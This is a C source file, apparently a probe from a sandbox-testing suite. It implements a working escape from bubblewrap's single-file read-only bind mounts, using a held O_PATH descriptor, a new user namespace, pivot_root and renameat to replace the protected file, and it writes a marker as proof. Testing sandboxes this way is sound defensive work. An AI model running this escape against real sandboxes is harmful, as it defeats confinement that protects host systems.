/* fs.pivot_escape: replace the protected file DIR/NAME although it is covered by a read-only
 * bind mount. Hold an O_PATH descriptor on DIR, enter a new user+mount namespace, pivot into
 * a tmpfs and detach the old root: the bind over NAME no longer exists in our namespace, so
 * the kernel lets renameat(fd, NAME -> NAME.old) move the mount point (the mount travels with
 * the renamed file in the other namespaces), and a new NAME is created through the held
 * descriptor, whose mount is the writable one we started from. Succeeded means the host now
 * sees our NAME. This defeated bubblewrap's single-file read-only binds (issue 2). */
#define _GNU_SOURCE
#include <sys/mount.h>
#include <sys/syscall.h>

#include "fsnet.h"
#include "probe.h"

#define PROBE "fs.pivot_escape"

/* Leave the view the sandbox built: a tmpfs over DIR (in our namespace only) becomes the root
 * and everything else is detached. -1 with *step on failure. */
static int detach_view(const char *dir, const char **step)
{
	*step = "make-private";
	if (mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL) < 0)
		return -1;
	*step = "mount-tmpfs";
	if (mount("cordon-probe", dir, "tmpfs", 0, "size=64k") < 0)
		return -1;
	*step = "chdir";
	if (chdir(dir) < 0 || mkdir("old", 0700) < 0)
		return -1;
	*step = "pivot_root";
	if (syscall(SYS_pivot_root, ".", "old") < 0)
		return -1;
	*step = "umount-old";
	if (chdir("/") < 0 || umount2("/old", MNT_DETACH) < 0)
		return -1;
	return 0;
}

static int replace_file(int dfd, const char *name, const char **step)
{
	char old[4096];
	snprintf(old, sizeof(old), "%s.old", name);
	*step = "renameat";
	if (renameat(dfd, name, dfd, old) < 0)
		return -1;
	*step = "openat";
	int fd = openat(dfd, name, O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 0644);
	if (fd < 0)
		return -1;
	*step = "write";
	return fsnet_write_marker(fd, PROBE);
}

int main(int argc, char **argv)
{
	const char *step = NULL;
	char target[4096];

	probe_need_args(PROBE, argc, 3, "usage: fs_pivot_escape DIR NAME");
	snprintf(target, sizeof(target), "%s/%s", argv[1], argv[2]);
	int dfd = open(argv[1], O_PATH | O_DIRECTORY | O_CLOEXEC);
	if (dfd < 0)
		probe_inconclusive(PROBE, target, "open O_PATH");
	if (fsnet_enter_userns(&step) < 0)
		probe_finish(PROBE, target, -1, step);
	if (detach_view(argv[1], &step) < 0)
		probe_finish(PROBE, target, -1, step);
	int rc = replace_file(dfd, argv[2], &step);
	probe_finish(PROBE, target, rc, step);
}
